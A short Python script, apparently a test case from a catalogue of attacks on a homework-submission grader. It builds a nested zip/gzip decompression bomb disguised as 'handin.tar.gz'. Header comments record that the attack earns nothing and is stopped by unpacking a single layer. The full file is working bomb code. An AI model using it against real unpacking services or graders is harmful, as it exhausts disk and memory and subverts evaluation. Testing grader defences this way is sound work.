# attack: archives in archives, for a reader that unpacks whatever it finds
# earns: 0
# stopped by: one layer of packing is taken off and no more
import gzip
import io
import tarfile
import zipfile
from pathlib import Path


def build(path: Path) -> None:
    content = gzip.compress(bytes(16 << 20))
    for depth in range(5):
        memory = io.BytesIO()
        with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"hw3/{depth}-{number}.zip", content)
        content = memory.getvalue()
    with tarfile.open(path, "w:gz") as outer:
        member = tarfile.TarInfo("handin.tar.gz")
        member.size = len(content)
        outer.addfile(member, io.BytesIO(content))
